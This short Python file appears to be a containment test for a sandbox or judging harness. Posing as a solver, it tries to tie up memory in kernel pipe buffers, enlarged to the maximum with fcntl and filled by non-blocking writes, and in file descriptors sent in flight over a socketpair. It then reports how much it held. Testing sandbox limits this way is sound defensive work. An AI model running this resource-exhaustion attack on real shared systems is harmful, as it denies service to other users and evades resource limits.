# attack: keep memory in kernel buffers: pipes made as large as allowed, and sockets in flight
# contained-at: namespaces restricted
# expect: deserved-or-not-ok
import fcntl
import os
import socket

from kit import *


def solve(instance):
    held = 0
    with quietly():
        for _ in range(2000):
            _, w = os.pipe()
            os.set_blocking(w, False)
            with quietly():
                fcntl.fcntl(w, 1031, 1 << 20)
            with quietly():
                while True:
                    held += os.write(w, b"\1" * 65536)
    with quietly():
        a, b = socket.socketpair()
        for _ in range(2000):
            socket.send_fds(a, [b"x"], [a.fileno(), b.fileno()])
    if held > 200 << 20:
        got(f"{held >> 20} MB in pipes")
    return answer(instance)
